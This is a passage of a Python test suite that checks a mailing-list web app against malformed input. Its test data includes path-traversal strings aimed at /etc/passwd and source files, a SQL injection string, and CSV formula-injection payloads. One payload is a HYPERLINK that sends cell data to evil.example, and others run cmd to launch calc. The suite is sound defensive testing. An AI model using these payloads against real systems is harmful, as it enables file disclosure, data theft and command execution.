            upload = await client.post(path, data={"List-Unsubscribe": "One-Click", "action": "leave"}, files={"f": ("a.bin", b"x" * 200_000)})
            assert upload.status_code == 413, (path, upload.status_code)
        assert subscribed(mailer, "zoe@example.org") and relay.messages == []
    run(settings, scenario)


@pytest.mark.parametrize("value", ["²", "٣" * 5 + "x", "9" * 5000, "1" * 30])
def test_odd_list_numbers_are_a_400_not_a_server_error(settings: Settings, value: str) -> None:
    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        mailer.add_subscriber("zoe@example.org", "work-in-progress")
        (sid,), = rows(mailer, "SELECT id FROM subscriber")
        signup = await fill_signup(client, lists=value, email="odd@example.org")
        prefs = await client.post(f"/preferences/{mailer.signer.manage_token(sid, 0)}", data={"language": "it", "lists": value})
        assert (signup.status_code, prefs.status_code) in ((400, 200), (400, 400)), \
            f"lists={value[:8]!r}: /subscribe {signup.status_code}, /preferences {prefs.status_code}"
    run(settings, scenario)


def test_odd_numbers_in_admin_urls_are_not_server_errors(settings: Settings) -> None:
    paths = ["/admin/bounces?page=-1", "/admin/bounces?page=999999", "/admin/bounces?page=²",
             "/admin/campaigns/99999999999999999999999", "/admin/subscribers/99999999999999999999999",
             "/admin/campaigns/99999999999999999999999/deliveries.csv", "/admin/campaigns/99999999999999999999999/bounces.csv"]

    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        await as_operator(client, mailer)
        answers = {path: (await client.get(path)).status_code for path in paths}
        errors = {path: status for path, status in answers.items() if status not in (200, 400, 404)}
        assert errors == {}, errors
    run(settings, scenario)


def test_lookalike_and_unicode_addresses_are_shown_as_what_they_are(settings: Settings) -> None:
    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        cyrillic = "ines@ex\u0430mple.org"  # Cyrillic 'а': another domain that looks like example.org
        assert (await fill_signup(client, email=cyrillic)).status_code == 200
        recipient, = relay.messages[0].recipients
        assert recipient.startswith("ines@xn--") and recipient.isascii()
        page = await client.get(confirm_link(relay))
        assert "ines@xn--" in page.text and "ex\u0430mple" not in page.text  # no look-alike on the page
        for refused in ("in\u00e9s@example.org", "\uff49nes@example.org", "ines\u200b@example.org", "ines@example.org\u202e"):
            assert (await fill_signup(client, email=refused)).status_code == 400, refused
        # one person, one address: case does not make a second subscriber or a second confirmation mail
        await fill_signup(client, email="ines@example.org")
        await fill_signup(client, email="INES@EXAMPLE.ORG")
        assert [m.recipients for m in relay.messages[1:]] == [["ines@example.org"]]
    run(settings, scenario)


def test_invisible_and_bidi_characters_are_dropped_from_names(settings: Settings) -> None:
    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        await fill_signup(client, name="Ines\u202eafla\u200b\x00\x07 Neri")
        await client.post(confirm_link(relay))
        (name,), = rows(mailer, "SELECT name FROM subscriber")
        assert all(ch.isprintable() for ch in name), repr(name)
    run(settings, scenario)


def test_sql_wildcards_and_quotes_in_the_search_match_only_themselves(settings: Settings) -> None:
    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        for email in ("a_b@example.org", "axb@example.org", "p%q@example.org", "pxq@example.org", "o'hara@example.org"):
            mailer.add_subscriber(email, "work-in-progress")
        await as_operator(client, mailer)

        async def found(q: str) -> list[str]:
            page = await client.get("/admin/subscribers", params={"q": q})
            assert page.status_code == 200, q
            return sorted(re.findall(r'href="/admin/subscribers/\d+">([^<]+)<', page.text))

        assert await found("a_b") == ["a_b@example.org"]
        assert await found("_") == ["a_b@example.org"]
        assert await found("%") == ["p%q@example.org"]
        assert await found("p%q") == ["p%q@example.org"]
        assert await found("' OR '1'='1") == []
        assert await found("o'hara") == ["o&#39;hara@example.org"]
        assert await found("\\") == [] and await found("%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%%") == []
    run(settings, scenario)


TRAVERSALS = [
    b"/static/../__init__.py", b"/static/..%2f__init__.py", b"/static/%2e%2e/__init__.py", b"/static/%2e%2e%2f%2e%2e%2fsettings.py",
    b"/static/bootstrap-italia/../../__init__.py", b"/static/..\\__init__.py", b"/static//etc/passwd", b"/static/%00",
    b"/static/....//....//__init__.py", b"/static/%252e%252e/__init__.py", b"/static/bootstrap-italia/css/../../../security.py",
    b"/archive/work-in-progress/..%2f..%2f..%2fpyproject.toml", b"/archive/..%2f..%2fpyproject.toml/",
    b"/archive/%2e%2e/2026-05", b"/archive/work-in-progress/%2e%2e", b"/archive/work-in-progress/..%5c..%5cpyproject.toml",
]


def test_no_path_reaches_outside_the_static_folder_or_the_archive(settings: Settings) -> None:
    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        await send_issue(mailer, ["mara@example.org"])
        assert (await client.get("/static/site.css")).status_code == 200
        for raw_path in TRAVERSALS:
            response = await raw_get(client, raw_path)
            assert response.status_code in (400, 404, 405), (raw_path, response.status_code)
            for secret in ("create_app", "root:", "[project]", "import ", "secret_keys"):
                assert secret not in response.text, (raw_path, secret)
    run(settings, scenario)


# ================================================================================================
# CSV exports and the Atom feed
# ================================================================================================

FORMULAS = ("=", "+", "-", "@", "\t", "\r")


def test_csv_exports_neutralise_formulas_from_addresses_and_smtp_replies(settings: Settings) -> None:
    replies = {
        "eq": '550 =HYPERLINK("http://evil.example/?"&A1,"click")',
        "plus": "550 +cmd|' /C calc'!A0",
        "minus": "550 -2+3+cmd|' /C calc'!A0",
        "at": "550 @SUM(1+1)*cmd|' /C calc'!A0",
        "tab": "550 \t=1+1",
    }

    def rule(recipient: str) -> str | None:
        return replies.get(recipient.partition("@")[0].lstrip("=+-"))

    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        people = ["eq@example.org", "plus@example.org", "minus@example.org", "at@example.org", "tab@example.org",
                  "=cmd@example.org", "+39011@example.org", "-x@example.org"]
        campaign_id = await send_issue(mailer, people)
        await as_operator(client, mailer)
        for path in (f"/admin/campaigns/{campaign_id}/deliveries.csv", f"/admin/campaigns/{campaign_id}/bounces.csv", "/admin/bounces.csv"):
            response = await client.get(path)
            assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
            assert response.headers["content-disposition"].startswith("attachment")
            cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
            dangerous = [c for c in cells if c.startswith(FORMULAS)]
            assert dangerous == [], f"{path}: {dangerous}"
        text_of_reasons = (await client.get("/admin/bounces.csv")).text
        assert "HYPERLINK" in text_of_reasons  # the reply is kept, as text
    run(settings, scenario, rule=rule)


def test_the_atom_feed_stays_well_formed_with_markup_in_subjects(settings: Settings) -> None:
    subject = 'Tom & Jerry <b>bold</b> ]]> <![CDATA[x]]> "quoted" \'single\' &amp; <!-- -->'

    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        await send_issue(mailer, ["mara@example.org"])
        with mailer.engine.begin() as conn:
            conn.execute(text("UPDATE campaign SET subject = :s"), {"s": subject})
        feed = await client.get("/archive/work-in-progress/feed.atom")
        entry = ElementTree.fromstring(feed.content).find("{http://www.w3.org/2005/Atom}entry")
        assert entry is not None and entry.findtext("{http://www.w3.org/2005/Atom}title") == subject
        index = await client.get("/archive/work-in-progress/")
        assert "<b>bold</b>" not in index.text and "Tom &amp; Jerry" in index.text
    run(settings, scenario)


def test_the_atom_feed_stays_well_formed_with_control_characters_in_a_subject(settings: Settings) -> None:
    async def scenario(client: httpx.AsyncClient, mailer: Mailer, relay: CaptureServer) -> None:
        await send_issue(mailer, ["mara@example.org"])
        with mailer.engine.begin() as conn:
            conn.execute(text("UPDATE campaign SET subject = :s"), {"s": "Issue\x0c of May\x1b[31m"})
        feed = await client.get("/archive/work-in-progress/feed.atom")
        ElementTree.fromstring(feed.content)  # a feed reader drops the whole feed on one bad character
    run(settings, scenario)
